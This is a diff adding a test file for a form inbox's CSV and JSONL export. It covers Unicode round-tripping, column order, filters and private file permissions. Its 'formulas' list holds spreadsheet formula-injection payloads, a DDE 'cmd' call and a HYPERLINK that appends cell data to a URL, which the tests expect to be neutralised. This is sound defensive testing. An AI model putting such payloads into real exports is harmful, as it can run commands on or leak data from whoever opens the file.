@@ -1,0 +1,153 @@
+// @vitest-environment node
+import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import type { Fields } from "../../../../src/forms/form-names.ts";
+import { candidate } from "../store/candidate.ts";
+import { day, desk, now } from "./desk.ts";
+import { parseCsv } from "./parse-csv.ts";
+
+const formulas = [
+  `=HYPERLINK("https://example.org?"&A1,"Click")`,
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-2+3",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+];
+
+const innocent = ["O'Neill", "a=b", "1-2", `say "hi", and\ngo`, "a,b;c", " =1", "'quoted'", "", "–dash"];
+
+/** Each as it is written, and in forms that a program might silently replace. */
+const scripts = {
+  yoruba: "Ọlábísí Adébáyọ̀",
+  arabic: "مريم بنت أحمد",
+  hebrew: "שָׁלוֹם",
+  hindi: "क्षितिज",
+  thai: "นำ้ใจ",
+  han: "𠮷野家 李",
+  korean: "각 \u1100\u1161\u11a8",
+  composed: "Zo\u00eb",
+  decomposed: "Zoe\u0308",
+  emoji: "👩🏾‍🌾🏳️‍🌈",
+  persian: "می\u200cخواهم",
+  control: "a\u0000\u001b[31m\u2028\r\n\ufeff",
+  loneSurrogate: "\ud800",
+  proto: "__proto__",
+};
+
+function sent(message: string) {
+  return { fields: { message } };
+}
+
+describe("csv", () => {
+  test.each(formulas)("%j opens as a text", async (formula) => {
+    const { inbox } = await desk([sent(formula)]);
+    const [row] = parseCsv((await inbox("export", "--format", "csv")).out);
+    expect(row?.message).toBe(`'${formula}`);
+  });
+
+  test.each(innocent)("%j comes back as it was", async (text) => {
+    const { inbox } = await desk([sent(text)]);
+    const [row] = parseCsv((await inbox("export", "--format", "csv")).out);
+    expect(row?.message).toBe(text);
+  });
+
+  test("begins with the mark of UTF-8 and has a column for each field of the form", async () => {
+    const { inbox } = await desk([{ reference: "KG-AMA22222", fields: { message: "Hi", lastName: "Ọlábísí" } }]);
+    const { out } = await inbox("export", "--format", "csv", "--form", "contact");
+    expect(out).toBe(
+      "\ufeffreference,form,received_eastern,received_utc,state,firstName,lastName,email,inquiry,subject,message\r\n" +
+        "KG-AMA22222,contact,2026-11-21 12:00:00,2026-11-21T17:00:00.000Z,received,,Ọlábísí,,,,Hi\r\n",
+    );
+  });
+
+  test("has the same columns in the same order whatever was sent, and those that a form had once", async () => {
+    const columns = async (...fields: Fields[]) => {
+      const { inbox } = await desk(fields.map((each) => ({ fields: each })));
+      return (await inbox("export", "--format", "csv")).out.split("\r\n")[0];
+    };
+    const usual = await columns();
+    expect(await columns({ message: "Hi" }, { email: "ama@example.org" })).toBe(usual);
+    expect(await columns({ toString: "x", fax: "1" }, { fax: "2" })).toBe(`${usual},fax,toString`);
+    const names = usual?.split(",") ?? [];
+    expect(new Set(names).size).toBe(names.length);
+  });
+
+  test("takes form, state and day, the oldest first", async () => {
+    const { inbox } = await desk([
+      { reference: "KG-22222222", receivedAt: now },
+      { reference: "KG-33333333", receivedAt: now - 2 * day },
+      { reference: "KG-44444444", form: "sponsor", state: "quarantined" },
+    ]);
+    const references = async (...args: string[]) =>
+      parseCsv((await inbox("export", "--format", "csv", ...args)).out).map(({ reference }) => reference);
+    expect(await references("--form", "contact")).toEqual(["KG-33333333", "KG-22222222"]);
+    expect(await references("--since", "2026-11-20", "--state", "received")).toEqual(["KG-22222222"]);
+    expect(await references("--state", "quarantined")).toEqual(["KG-44444444"]);
+  });
+});
+
+test("jsonl brings everything back, in every script", async () => {
+  const fields = { ...scripts, consent: true, seats: 3 };
+  const { inbox, store, folder } = await desk([{ fields }, sent("two")]);
+  const file = join(folder, "all.jsonl");
+  expect((await inbox("export", "--format", "jsonl", "--out", file)).out).toBe(`2 forms in ${file}\n`);
+  const lines = readFileSync(file, "utf8").trimEnd().split("\n");
+  const read = lines.map((line) => JSON.parse(line));
+  const stored = (await store.list()).map((each) => ({ ...each, receivedAt: new Date(each.receivedAt).toISOString() }));
+  expect(read).toEqual(expect.arrayContaining(stored));
+  const back = read.find(({ fields }) => fields.yoruba).fields;
+  expect(JSON.stringify(back)).toBe(JSON.stringify(fields));
+});
+
+test("many pages are exported whole", async () => {
+  const { inbox, store } = await desk();
+  await Promise.all(
+    Array.from({ length: 450 }, () => store.accept(candidate({ fields: { message: "x".repeat(400) } }))),
+  );
+  const { out } = await inbox("export", "--format", "jsonl");
+  expect(
+    new Set(
+      out
+        .trimEnd()
+        .split("\n")
+        .map((line) => JSON.parse(line).id),
+    ).size,
+  ).toBe(450);
+});
+
+describe("a file", () => {
+  test("can be read by this user alone", async () => {
+    const { inbox, folder } = await desk([{}]);
+    await inbox("export", "--format", "csv", "--out", join(folder, "all.csv"));
+    expect(statSync(join(folder, "all.csv")).mode & 0o777).toBe(0o600);
+  });
+
+  test("that is there is replaced only with --force, and is private afterwards", async () => {
+    const { inbox, folder } = await desk([{}]);
+    const file = join(folder, "mine.csv");
+    writeFileSync(file, "mine");
+    chmodSync(file, 0o644);
+    const { code, err } = await inbox("export", "--format", "csv", "--out", file);
+    expect({ code, err }).toEqual({ code: 1, err: `'${file}' is there already; --force replaces it.\n` });
+    expect(readFileSync(file, "utf8")).toBe("mine");
+    expect((await inbox("export", "--format", "csv", "--out", file, "--force")).code).toBe(0);
+    expect(readFileSync(file, "utf8")).toContain("reference,form");
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect(readdirSync(folder).filter((name) => name.startsWith("mine"))).toEqual(["mine.csv"]);
+  });
+
+  test("that cannot be written is said plainly", async () => {
+    const { inbox } = await desk([{}]);
+    const { code, err } = await inbox("export", "--format", "csv", "--out", "/nowhere/all.csv");
+    expect(code).toBe(1);
+    expect(err).toContain("'/nowhere/all.csv' cannot be written");
+  });
+});
